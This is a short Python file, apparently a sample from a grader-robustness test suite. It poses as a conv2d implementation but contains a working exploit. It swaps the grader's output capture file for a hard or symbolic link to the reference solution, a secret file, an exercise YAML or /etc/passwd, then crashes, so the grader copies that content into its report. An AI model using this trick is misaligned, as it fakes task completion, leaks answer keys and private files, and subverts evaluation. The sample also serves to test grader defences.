# Turns the output capture file into a link (hard where possible, else symbolic) to the reference solution and a
# private file, then crashes, so a grader that opens it by name copies their text into the report.
# modes: standard strict
import os

TARGETS = ["{REPO}/solutions/conv.py", "{SECRET}", "{REPO}/exercises/exercise-2.yaml", "/etc/passwd"]
_calls = [0]


def conv2d(x, weight, bias=None, stride=1, padding=0):
    target = TARGETS[_calls[0] % len(TARGETS)]
    _calls[0] += 1
    os.unlink(".output")
    try:
        os.link(target, ".output")
    except OSError:
        os.symlink(target, ".output")
    os._exit(9)
